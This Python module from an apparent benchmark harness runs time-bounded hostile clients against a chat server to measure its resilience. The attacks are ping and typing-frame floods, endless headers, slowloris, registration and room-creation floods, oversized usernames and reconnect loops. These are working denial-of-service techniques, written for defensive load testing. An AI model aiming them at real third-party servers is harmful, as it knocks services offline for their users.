"""The hostile clients of `python -m bench attacks`, each bounded in time and size.

Run in their own process, so that an attack's own CPU does not slow down the
measuring of the other users: `python -m bench.attackers` reads one JSON job on
stdin: `attack` (a name in ATTACKS), `url` (the server's `http://host:port`), `secs`
(how long to attack), `source` (the address to connect from) and what the attack
needs (`token`, `room`). It prints `{"started": true}` when the attack begins and,
once it is over and every socket it opened is closed, one JSON line of what it did.
"""

import asyncio
import base64
import contextlib
import json
import os
import secrets
import sys
import time
import urllib.parse
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

import httpx

from bench.servers import PASSWORD

# Header lines on one request: stop at this many bytes if the server never does.
HEADER_BYTES_CAP = 100 * 2**20
PING_SOCKETS = 4
TYPING_SOCKETS = 4
HALF_SENT_REQUESTS = 1000
IDLE_CONNECTIONS = 100
HTTP_WORKERS = 8
SINCE_WORKERS = 4
USERNAME_BYTES = 1_000_000
# How long one connect or one request may take before it counts as refused.
CONNECT_TIMEOUT_SECS = 5.0
REQUEST_TIMEOUT_SECS = 30.0
TRICKLE_SECS = 2.0


@dataclass
class Job:
    url: str
    secs: float
    source: str
    token: str = ""
    room: str = ""
    deadline: float = 0.0

    @property
    def host(self) -> str:
        return urllib.parse.urlsplit(self.url).hostname or "127.0.0.1"

    @property
    def port(self) -> int:
        return urllib.parse.urlsplit(self.url).port or 80

    def left(self) -> float:
        return max(0.0, self.deadline - time.monotonic())

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        async with asyncio.timeout(CONNECT_TIMEOUT_SECS):
            return await asyncio.open_connection(self.host, self.port, local_addr=(self.source, 0))

    def http(self, **kwargs: Any) -> httpx.AsyncClient:
        return httpx.AsyncClient(
            base_url=self.url,
            timeout=REQUEST_TIMEOUT_SECS,
            transport=httpx.AsyncHTTPTransport(local_address=self.source),
            **kwargs,
        )


@dataclass
class Counts:
    """Answers by kind: HTTP status, close code, or what went wrong."""

    by_kind: dict[str, int] = field(default_factory=dict)

    def add(self, kind: object) -> None:
        key = str(kind)
        self.by_kind[key] = self.by_kind.get(key, 0) + 1


def client_frame(opcode: int, payload: bytes) -> bytes:
    """A masked frame (RFC 6455, 5.3) with a zero mask, which leaves the payload as is."""
    assert len(payload) < 126
    return bytes((0x80 | opcode, 0x80 | len(payload))) + bytes(4) + payload


def upgrade_request(job: Job, path: str, token: str = "") -> bytes:
    key = base64.b64encode(os.urandom(16)).decode()
    lines = [
        f"GET {path} HTTP/1.1",
        f"Host: {job.host}:{job.port}",
        "Upgrade: websocket",
        "Connection: Upgrade",
        f"Sec-WebSocket-Key: {key}",
        "Sec-WebSocket-Version: 13",
    ]
    if token:
        lines.append(f"Authorization: Bearer {token}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


async def read_frame(reader: asyncio.StreamReader) -> tuple[int, bytes]:
    """One server frame (unmasked): its opcode and payload."""
    head = await reader.readexactly(2)
    length = head[1] & 0x7F
    if length == 126:
        length = int.from_bytes(await reader.readexactly(2), "big")
    elif length == 127:
        length = int.from_bytes(await reader.readexactly(8), "big")
    return head[0] & 0x0F, await reader.readexactly(length)


async def open_socket(
    job: Job, path: str, token: str = ""
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter, str]:
    """A WebSocket opened by hand: reader, writer and the answer's status line."""
    reader, writer = await job.connect()
    writer.write(upgrade_request(job, path, token))
    async with asyncio.timeout(CONNECT_TIMEOUT_SECS):
        answer = await reader.readuntil(b"\r\n\r\n")
    return reader, writer, answer.split(b"\r\n", 1)[0].decode(errors="replace")


async def close_code(reader: asyncio.StreamReader) -> str:
    """Read and drop server frames until the close: its code, or how the stream ended."""
    try:
        while True:
            opcode, payload = await read_frame(reader)
            if opcode == 0x8:
                return str(int.from_bytes(payload[:2], "big")) if payload else "close"
    except (asyncio.IncompleteReadError, OSError):
        return "eof"


async def pump(writer: asyncio.StreamWriter, chunk: bytes, job: Job, sent: list[int]) -> bool:
    """Write `chunk` over and over until the deadline; False if the server hung up first."""
    try:
        async with asyncio.timeout(job.left()):
            while True:
                writer.write(chunk)
                await writer.drain()
                sent[0] += len(chunk)
    except TimeoutError:
        return True
    except OSError:
        return False


def abort(writer: asyncio.StreamWriter) -> None:
    writer.transport.abort()


# -- the attacks -------------------------------------------------------------------


async def flood_sockets(
    job: Job, count: int, chunk: bytes, token: str = "", read: bool = True
) -> dict[str, Any]:
    """`count` sockets on `general` writing `chunk` over and over until the deadline; one
    the server cuts is opened again at once, as an attacker would."""
    sent = [0]
    ends = Counts()
    opened = 0

    async def worker() -> None:
        nonlocal opened
        while job.left() > 0:
            writer: asyncio.StreamWriter | None = None
            closing: asyncio.Task[str] | None = None
            try:
                if read:
                    reader, writer, status = await open_socket(job, "/ws/rooms/general", token)
                    if " 101 " not in f"{status} ":
                        ends.add(status)
                        await asyncio.sleep(0.05)
                        continue
                    # What the server sends is read and dropped: only the flood weighs.
                    closing = asyncio.create_task(close_code(reader))
                else:
                    _reader, writer = await job.connect()
                    # Nothing the server sends is read: its answers stay on its side.
                    assert isinstance(writer.transport, asyncio.Transport)
                    writer.transport.pause_reading()
                    writer.write(upgrade_request(job, "/ws/rooms/general", token))
                opened += 1
                if await pump(writer, chunk, job, sent):
                    return
                if closing is not None:
                    with contextlib.suppress(TimeoutError):
                        await asyncio.wait_for(asyncio.shield(closing), 0.5)
                ends.add(closing.result() if closing and closing.done() else "cut")
            except (OSError, TimeoutError, asyncio.IncompleteReadError):
                ends.add("refused")
                await asyncio.sleep(0.05)
            finally:
                if closing is not None:
                    closing.cancel()
                if writer is not None:
                    abort(writer)

    await asyncio.gather(*(worker() for _ in range(count)))
    return {"sockets": count, "opened": opened, "sent_bytes": sent[0], "ends": ends.by_kind}


async def ping_flood(job: Job) -> dict[str, Any]:
    """Sockets without a token on a room send pings as fast as they can, reading nothing."""
    return await flood_sockets(job, PING_SOCKETS, client_frame(0x9, b"p" * 125) * 512, read=False)


async def endless_headers(job: Job) -> dict[str, Any]:
    """A request whose header lines never end, up to HEADER_BYTES_CAP bytes in all, then
    held open; one the server cuts is started again on a new connection."""
    chunk = (b"X-Pad: " + b"a" * 1015 + b"\r\n") * 64
    sent = 0
    answers = Counts()

    async def one() -> None:
        nonlocal sent
        reader, writer = await job.connect()
        first: list[bytes] = []

        async def read_answer() -> None:
            with contextlib.suppress(OSError):
                while data := await reader.read(65536):
                    if not first:
                        first.append(data.split(b"\r\n", 1)[0])

        answering = asyncio.create_task(read_answer())
        try:
            writer.write(f"GET /healthz HTTP/1.1\r\nHost: {job.host}\r\n".encode())
            while sent < HEADER_BYTES_CAP and not answering.done():
                writer.write(chunk)
                await writer.drain()
                sent += len(chunk)
            # Past the cap, the unfinished request is held open until the deadline.
            await asyncio.shield(answering)
        except OSError:
            pass
        finally:
            ended = answering.done()
            answering.cancel()
            abort(writer)
            if first:
                answers.add(first[0].decode(errors="replace"))
            else:
                answers.add("cut, no answer" if ended else "held to the end")

    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(job.left()):
            while True:
                try:
                    await one()
                except (OSError, TimeoutError):
                    answers.add("refused")
                await asyncio.sleep(0.05)
    return {"sent_mib": sent / 2**20, "answers": answers.by_kind}


async def slowloris(job: Job) -> dict[str, Any]:
    """Half-sent requests that trickle a header line now and then, and idle connections."""
    held: list[tuple[asyncio.StreamWriter, asyncio.Task[None], bool]] = []
    failed = 0

    async def wait_eof(reader: asyncio.StreamReader) -> None:
        with contextlib.suppress(OSError):
            while await reader.read(65536):
                pass

    async def open_one(half: bool) -> None:
        nonlocal failed
        try:
            reader, writer = await job.connect()
        except (OSError, TimeoutError):
            failed += 1
            return
        if half:
            writer.write(f"GET /healthz HTTP/1.1\r\nHost: {job.host}\r\n".encode())
        held.append((writer, asyncio.create_task(wait_eof(reader)), half))

    kinds = [True] * HALF_SENT_REQUESTS + [False] * IDLE_CONNECTIONS
    try:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(job.left()):
                for start in range(0, len(kinds), 100):
                    await asyncio.gather(*(open_one(half) for half in kinds[start : start + 100]))
                while True:
                    await asyncio.sleep(TRICKLE_SECS)
                    for writer, task, half in held:
                        if half and not task.done():
                            writer.write(b"X-Trickle: 1\r\n")
        still_open = sum(not task.done() for _w, task, _h in held)
    finally:
        for writer, task, _half in held:
            task.cancel()
            abort(writer)
    return {
        "connections": len(kinds),
        "opened": len(held),
        "failed": failed,
        "still_open": still_open,
    }


async def http_flood(
    job: Job,
    request: Callable[[httpx.AsyncClient, int], Awaitable[httpx.Response]],
    headers: dict[str, str] | None = None,
) -> Counts:
    """HTTP_WORKERS clients sending `request` back to back until the deadline."""
    counts = Counts()
    serial = iter(range(10**9))

    async def worker() -> None:
        async with job.http(headers=headers or {}) as http:
            while True:
                try:
                    counts.add((await request(http, next(serial))).status_code)
                except httpx.TimeoutException:
                    counts.add("timeout")
                except httpx.TransportError:
                    counts.add("refused")
                    await asyncio.sleep(0.05)

    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(job.left()):
            await asyncio.gather(*(worker() for _ in range(HTTP_WORKERS)))
    return counts


async def register_flood(job: Job) -> dict[str, Any]:
    """New accounts as fast as one client can ask for them."""
    prefix = f"r{secrets.token_hex(3)}"

    def register(http: httpx.AsyncClient, i: int) -> Awaitable[httpx.Response]:
        return http.post(
            "/api/auth/register", json={"username": f"{prefix}{i}", "password": PASSWORD}
        )

    counts = await http_flood(job, register)
    return {"answers": counts.by_kind, "created": counts.by_kind.get("201", 0)}


TYPING_FRAME = client_frame(0x1, b'{"type":"typing"}')


async def typing_flood(job: Job) -> dict[str, Any]:
    """Signed-in sockets sending typing frames as fast as they can."""
    result = await flood_sockets(job, TYPING_SOCKETS, TYPING_FRAME * 2048, job.token)
    return {**result, "frames": result["sent_bytes"] // len(TYPING_FRAME)}


async def long_usernames(job: Job) -> dict[str, Any]:
    """Failed sign-ins, each with its own 1 MB username."""
    fill = b"a" * (USERNAME_BYTES - 8)
    headers = {"Content-Type": "application/x-www-form-urlencoded"}

    def sign_in(http: httpx.AsyncClient, i: int) -> Awaitable[httpx.Response]:
        body = b"username=" + f"{i:08d}".encode() + fill + b"&password=wrong+password"
        return http.post("/api/auth/token", content=body, headers=headers)

    counts = await http_flood(job, sign_in)
    return {"answers": counts.by_kind, "attempts": sum(counts.by_kind.values())}


async def since_loop(job: Job) -> dict[str, Any]:
    """One account reconnecting with `?since=0` over and over, aborting after the welcome."""
    served = 0
    answers = Counts()
    path = f"/ws/rooms/{job.room}?since=0"

    async def worker() -> None:
        nonlocal served
        while True:
            writer = None
            try:
                reader, writer, status = await open_socket(job, path, job.token)
                if " 101 " not in f"{status} ":
                    answers.add(status.split(" ")[1] if " " in status else status)
                    continue
                opcode, payload = await read_frame(reader)
                served += len(payload)
                if opcode == 0x8:
                    answers.add(int.from_bytes(payload[:2], "big") if payload else "close")
                else:
                    answers.add("welcome")
            except (OSError, TimeoutError, asyncio.IncompleteReadError):
                answers.add("refused")
                await asyncio.sleep(0.05)
            finally:
                if writer is not None:
                    abort(writer)

    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(job.left()):
            await asyncio.gather(*(worker() for _ in range(SINCE_WORKERS)))
    return {"answers": answers.by_kind, "served_mib": served / 2**20}


async def room_flood(job: Job) -> dict[str, Any]:
    """One account creating rooms as fast as it can; then how big everybody's room list is."""
    prefix = f"f{secrets.token_hex(3)}"

    def create(http: httpx.AsyncClient, i: int) -> Awaitable[httpx.Response]:
        return http.post("/api/rooms", json={"name": f"{prefix}-{i}"})

    auth = {"Authorization": f"Bearer {job.token}"}
    counts = await http_flood(job, create, headers=auth)
    try:
        async with job.http(headers=auth) as http:
            listing = await http.get("/api/rooms")
        list_bytes: int | None = len(listing.content)
    except httpx.HTTPError:
        list_bytes = None
    return {
        "answers": counts.by_kind,
        "created": counts.by_kind.get("201", 0),
        "room_list_bytes": list_bytes,
    }


ATTACKS: dict[str, Callable[[Job], Awaitable[dict[str, Any]]]] = {
    "ping-flood": ping_flood,
    "endless-headers": endless_headers,
    "slowloris": slowloris,
    "register-flood": register_flood,
    "typing-flood": typing_flood,
    "long-usernames": long_usernames,
    "since-loop": since_loop,
    "room-flood": room_flood,
}


async def run(spec: dict[str, Any]) -> dict[str, Any]:
    job = Job(
        url=spec["url"],
        secs=spec["secs"],
        source=spec.get("source", "127.0.0.1"),
        token=spec.get("token", ""),
        room=spec.get("room", ""),
    )
    print(json.dumps({"started": True}), flush=True)
    started = time.monotonic()
    job.deadline = started + job.secs
    try:
        result = await ATTACKS[spec["attack"]](job)
    except (OSError, TimeoutError, RuntimeError) as exc:
        result = {"error": f"{type(exc).__name__}: {exc}"[:200]}
    return {**result, "attack_secs": time.monotonic() - started}


def main() -> None:
    spec = json.loads(sys.stdin.readline())
    print(json.dumps(asyncio.run(run(spec))), flush=True)


if __name__ == "__main__":
    main()
